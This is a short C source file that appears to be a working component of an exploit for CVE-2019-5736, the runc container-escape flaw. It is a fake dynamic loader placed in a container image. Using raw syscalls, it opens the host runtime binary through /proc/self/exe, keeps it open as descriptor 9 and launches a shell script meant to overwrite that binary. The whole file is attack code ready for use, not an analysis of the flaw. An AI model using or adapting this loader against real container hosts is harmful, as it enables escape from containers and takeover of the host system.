/* What an image puts where the dynamic loader belongs (CVE-2019-5736): it runs instead of the
   program that was started, keeps that program's file open as descriptor 9 and lets a shell try
   to overwrite it. No C library: the kernel tells it about the other program, not about itself. */

#include <asm/unistd.h>
#include <linux/fcntl.h>

static long call(long number, long a, long b, long c)
{
	long result;

#if defined(__x86_64__)
	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = number;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;

	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
	result = x0;
#else
#error "how does this machine call its kernel?"
#endif
	return result;
}

void _start(void)
{
	const char *arguments[] = {"sh", "/attack", 0};
	const char *environment[] = {"PATH=/bin", 0};
	long file = call(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", 0);

	call(__NR_dup3, file, 9, 0);
	call(__NR_execve, (long)"/bin/sh", (long)arguments, (long)environment);
	call(__NR_exit, 99, 0, 0);
}
